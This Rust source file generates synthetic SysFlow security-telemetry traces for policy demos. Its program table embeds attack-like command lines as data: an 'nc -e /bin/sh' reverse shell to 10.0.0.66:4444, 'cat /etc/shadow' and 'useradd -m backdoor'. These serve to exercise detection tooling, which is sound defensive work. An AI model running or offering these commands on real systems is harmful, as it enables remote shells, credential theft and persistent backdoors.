//! Deterministic generator of realistic SysFlow traces.
//!
//! The mix follows the reference collector's traces (format.md §2.1): file flows dominate (~74%), then network
//! flows, file entities, processes, process events, file events, containers. Every event and flow refers to entities
//! emitted before it, as a collector would, so the flattened reader links everything. Workloads include a web
//! server, a shell session that runs typical attack-like commands (for policy demos), and background daemons.
//!
//! ```
//! let recs: Vec<_> = sysflow_gen::Generator::new(42).take(1000).collect();
//! assert_eq!(recs[0].kind(), sysflow_format::RecordKind::Header);
//! ```
#![warn(missing_docs)]

use std::collections::VecDeque;

use sysflow_format::flags::{ipv4_from_octets, op, open};
use sysflow_format::*;

/// A small, fast, deterministic PRNG (xorshift64*).
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A generator from a seed (0 is replaced by a fixed constant).
    pub fn new(seed: u64) -> Self {
        Rng(if seed == 0 {
            0x9e37_79b9_7f4a_7c15
        } else {
            seed
        })
    }

    /// Next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// A number in `0..n` (`n > 0`).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }

    /// Picks an element.
    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
}

const BASE_TS: i64 = 1_700_000_000_000_000_000;

struct Program {
    exe: &'static str,
    args: &'static str,
    user: (&'static str, i32),
    files: &'static [&'static str],
    net: Option<(u16, bool)>,
}

const PROGRAMS: &[Program] = &[
    Program {
        exe: "/usr/sbin/nginx",
        args: "-g daemon off;",
        user: ("www-data", 33),
        files: &[
            "/var/www/html/index.html",
            "/var/log/nginx/access.log",
            "/etc/nginx/nginx.conf",
            "/usr/share/nginx/html/app.js",
            "/var/www/html/style.css",
        ],
        net: Some((80, true)),
    },
    Program {
        exe: "/usr/bin/node",
        args: "/app/server.js",
        user: ("node", 1000),
        files: &[
            "/app/server.js",
            "/app/node_modules/express/index.js",
            "/app/package.json",
            "/tmp/session.db",
            "/app/views/index.ejs",
        ],
        net: Some((3000, true)),
    },
    Program {
        exe: "/usr/bin/python3",
        args: "worker.py --queue jobs",
        user: ("app", 1001),
        files: &[
            "/app/worker.py",
            "/usr/lib/python3.11/json/__init__.py",
            "/tmp/job.tmp",
            "/etc/hosts",
            "/etc/resolv.conf",
        ],
        net: Some((6379, false)),
    },
    Program {
        exe: "/usr/sbin/sshd",
        args: "-D",
        user: ("root", 0),
        files: &[
            "/etc/ssh/sshd_config",
            "/var/log/auth.log",
            "/etc/passwd",
            "/etc/shadow",
        ],
        net: Some((22, true)),
    },
    Program {
        exe: "/bin/bash",
        args: "-c /usr/local/bin/backup.sh",
        user: ("root", 0),
        files: &[
            "/usr/local/bin/backup.sh",
            "/var/backups/db.tar",
            "/etc/ld.so.cache",
            "/lib/x86_64-linux-gnu/libc.so.6",
        ],
        net: None,
    },
    Program {
        exe: "/usr/bin/curl",
        args: "-s http://10.0.0.5/health",
        user: ("app", 1001),
        files: &[
            "/etc/ssl/certs/ca-certificates.crt",
            "/etc/ld.so.cache",
            "/lib/x86_64-linux-gnu/libcurl.so.4",
        ],
        net: Some((80, false)),
    },
    Program {
        exe: "/usr/bin/cat",
        args: "/etc/shadow",
        user: ("root", 0),
        files: &["/etc/shadow", "/etc/ld.so.cache"],
        net: None,
    },
    Program {
        exe: "/usr/bin/nc",
        args: "-e /bin/sh 10.0.0.66 4444",
        user: ("www-data", 33),
        files: &["/etc/ld.so.cache"],
        net: Some((4444, false)),
    },
    Program {
        exe: "/usr/bin/crontab",
        args: "-l",
        user: ("root", 0),
        files: &["/var/spool/cron/crontabs/root", "/etc/crontab"],
        net: None,
    },
    Program {
        exe: "/usr/sbin/useradd",
        args: "-m backdoor",
        user: ("root", 0),
        files: &["/etc/passwd", "/etc/shadow", "/etc/group"],
        net: None,
    },
    Program {
        exe: "/usr/lib/postgresql/15/bin/postgres",
        args: "-D /var/lib/postgresql/data",
        user: ("postgres", 999),
        files: &[
            "/var/lib/postgresql/data/base/16384/2619",
            "/var/lib/postgresql/data/pg_wal/000000010000000000000001",
            "/var/lib/postgresql/data/postgresql.conf",
        ],
        net: Some((5432, true)),
    },
];

const ENV: &[&str] = &[
    "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "HOME=/root",
    "LANG=C.UTF-8",
    "HOSTNAME=web-0",
];

struct Proc {
    oid: Oid,
    prog: usize,
    container: Option<String>,
    files: Vec<Foid>,
}

/// An endless, deterministic stream of records forming valid self-contained segments.
pub struct Generator {
    rng: Rng,
    ts: i64,
    queue: VecDeque<Record>,
    procs: Vec<Proc>,
    containers: Vec<String>,
    next_pid: i64,
    segment_left: u64,
    /// Records per segment (a new header, and re-sent entities, start each segment).
    pub segment_records: u64,
    exporter: String,
}

impl Generator {
    /// A generator from a seed.
    pub fn new(seed: u64) -> Self {
        Generator {
            rng: Rng::new(seed),
            ts: BASE_TS,
            queue: VecDeque::new(),
            procs: Vec::new(),
            containers: Vec::new(),
            next_pid: 1000,
            segment_left: 0,
            segment_records: 1_000_000,
            exporter: "sysflow-gen".to_string(),
        }
    }

    fn tick(&mut self) -> i64 {
        self.ts += 1 + self.rng.below(50_000) as i64;
        self.ts
    }

    fn start_segment(&mut self) {
        self.procs.clear();
        self.containers.clear();
        self.queue.push_back(Record::Header(Header {
            version: 5,
            exporter: self.exporter.clone(),
            ip: "10.0.0.1".into(),
            filename: format!("/mnt/data/{}", self.ts / 1_000_000_000),
        }));
        for i in 0..3 {
            let id = format!("{:012x}", 0xabc000 + i + self.rng.below(1 << 20));
            self.queue.push_back(Record::Container(Box::new(Container {
                id: id.clone(),
                name: format!("app-{i}"),
                image: ["nginx:1.25", "node:20-alpine", "python:3.11-slim"][i as usize % 3].into(),
                imageid: format!("sha256:{:016x}", self.rng.next_u64()),
                container_type: ContainerType::Docker,
                privileged: i == 2,
                pod_id: None,
            })));
            self.containers.push(id);
        }
        self.segment_left = self.segment_records;
        // A parent shell for process trees.
        self.spawn(None, 4);
    }

    fn spawn(&mut self, parent: Option<Oid>, prog: usize) -> usize {
        let pid = self.next_pid;
        self.next_pid += 1 + self.rng.below(3) as i64;
        let ts = self.tick();
        let container = (self.rng.below(3) > 0).then(|| self.rng.pick(&self.containers).clone());
        let p = &PROGRAMS[prog];
        let oid = Oid {
            create_ts: ts,
            hpid: pid,
        };
        self.queue.push_back(Record::Process(Box::new(Process {
            state: ObjectState::Created,
            oid,
            poid: parent,
            ts,
            exe: p.exe.into(),
            exe_args: p.args.into(),
            uid: p.user.1,
            user_name: p.user.0.into(),
            gid: p.user.1,
            group_name: p.user.0.into(),
            tty: prog == 4,
            container_id: container.clone(),
            entry: parent.is_none(),
            cwd: "/app".into(),
            env: ENV.iter().map(|s| s.to_string()).collect(),
        })));
        let mut files = Vec::new();
        for path in p.files {
            let cid = container.clone().unwrap_or_default();
            let foid = Foid::compute(&cid, path);
            self.queue.push_back(Record::File(File {
                state: ObjectState::Created,
                oid: foid,
                ts,
                restype: i32::from(b'f'),
                path: (*path).into(),
                container_id: container.clone(),
            }));
            files.push(foid);
        }
        for (flag, args) in [(op::CLONE, vec![]), (op::EXEC, vec![p.exe.to_string()])] {
            let ts = self.tick();
            self.queue.push_back(Record::ProcessEvent(ProcessEvent {
                proc_oid: oid,
                ts,
                tid: pid,
                op_flags: flag,
                args,
                ret: 0,
            }));
        }
        self.procs.push(Proc {
            oid,
            prog,
            container,
            files,
        });
        self.procs.len() - 1
    }

    fn activity(&mut self) {
        if self.procs.len() < 40 || self.rng.below(100) < 2 {
            let parent = self.procs.first().map(|p| p.oid);
            let prog = self.rng.below(PROGRAMS.len() as u64) as usize;
            self.spawn(parent, prog);
            return;
        }
        let i = self.rng.below(self.procs.len() as u64) as usize;
        let ts = self.tick();
        let end_ts = ts + self.rng.below(5_000_000) as i64;
        let roll = self.rng.below(100);
        let (oid, prog) = (self.procs[i].oid, self.procs[i].prog);
        let tid = oid.hpid + self.rng.below(4) as i64;
        if roll < 80 || PROGRAMS[prog].net.is_none() {
            let foid = *self.rng.pick(&self.procs[i].files);
            let write = self.rng.below(4) == 0;
            let ops = 1 + self.rng.below(20) as i64;
            let bytes = ops * (1 + self.rng.below(8192) as i64);
            let open_flags = if write {
                open::WRONLY | open::CREAT | open::APPEND
            } else {
                open::RDONLY | open::CLOEXEC
            };
            let op_flags =
                op::OPEN | op::CLOSE | if write { op::WRITE_SEND } else { op::READ_RECV };
            self.queue.push_back(Record::FileFlow(FileFlow {
                proc_oid: oid,
                ts,
                tid,
                op_flags,
                open_flags,
                end_ts,
                file_oid: foid,
                fd: 3 + self.rng.below(60) as i32,
                num_r_recv_ops: if write { 0 } else { ops },
                num_w_send_ops: if write { ops } else { 0 },
                num_r_recv_bytes: if write { 0 } else { bytes },
                num_w_send_bytes: if write { bytes } else { 0 },
            }));
        } else if roll < 97 {
            let Some((port, server)) = PROGRAMS[prog].net else {
                return;
            };
            let peer = ipv4_from_octets([10, 0, 0, 2 + self.rng.below(200) as u8]);
            let me = ipv4_from_octets([172, 17, 0, 2]);
            let eph = 32768 + self.rng.below(28000) as i32;
            let (sip, sport, dip, dport) = if server {
                (peer, eph, me, i32::from(port))
            } else {
                (me, eph, peer, i32::from(port))
            };
            let rops = 1 + self.rng.below(10) as i64;
            let wops = 1 + self.rng.below(10) as i64;
            self.queue.push_back(Record::NetworkFlow(NetworkFlow {
                proc_oid: oid,
                ts,
                tid,
                op_flags: (if server { op::ACCEPT } else { op::CONNECT })
                    | op::READ_RECV
                    | op::WRITE_SEND
                    | op::CLOSE,
                end_ts,
                sip,
                sport,
                dip,
                dport,
                proto: if self.rng.below(10) == 0 { 17 } else { 6 },
                fd: 3 + self.rng.below(60) as i32,
                num_r_recv_ops: rops,
                num_w_send_ops: wops,
                num_r_recv_bytes: rops * (1 + self.rng.below(4096) as i64),
                num_w_send_bytes: wops * (1 + self.rng.below(4096) as i64),
            }));
        } else if roll < 99 {
            let foid = *self.rng.pick(&self.procs[i].files);
            let flag = *self
                .rng
                .pick(&[op::UNLINK, op::RENAME, op::MKDIR, op::SYMLINK]);
            let new_file_oid = (flag == op::RENAME || flag == op::SYMLINK)
                .then(|| *self.rng.pick(&self.procs[i].files));
            self.queue.push_back(Record::FileEvent(FileEvent {
                proc_oid: oid,
                ts,
                tid,
                op_flags: flag,
                file_oid: foid,
                ret: 0,
                new_file_oid,
            }));
        } else {
            self.queue.push_back(Record::ProcessEvent(ProcessEvent {
                proc_oid: oid,
                ts,
                tid: oid.hpid,
                op_flags: op::EXIT,
                args: vec![],
                ret: 0,
            }));
            let p = self.procs.swap_remove(i);
            let _ = (p.container, p.files);
        }
    }
}

impl Iterator for Generator {
    type Item = Record;

    fn next(&mut self) -> Option<Record> {
        loop {
            if let Some(r) = self.queue.pop_front() {
                self.segment_left = self.segment_left.saturating_sub(1);
                return Some(r);
            }
            if self.segment_left == 0 {
                self.start_segment();
            } else {
                self.activity();
            }
        }
    }
}

/// Writes `n` generated records (seed `seed`) into a trace with the default writer options.
pub fn write_trace<W: std::io::Write>(out: W, n: u64, seed: u64) -> sysflow_format::Result<W> {
    let mut w = TraceWriter::new(out, WriterOptions::default())?;
    for r in Generator::new(seed).take(n as usize) {
        w.write(&r)?;
    }
    w.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generated_records_link_to_their_entities() {
        let mut f = Flattener::new();
        let mut linked = 0;
        let mut total = 0;
        for r in Generator::new(7).take(20_000) {
            if let Some(flat) = f.push(r, Layout::V5) {
                total += 1;
                if flat.process.is_some() {
                    linked += 1;
                }
            }
        }
        assert!(total > 15_000);
        assert_eq!(linked, total, "every event/flow refers to a known process");
    }

    #[test]
    fn generation_is_deterministic() {
        let a: Vec<_> = Generator::new(3).take(500).collect();
        let b: Vec<_> = Generator::new(3).take(500).collect();
        assert_eq!(a, b);
    }
}
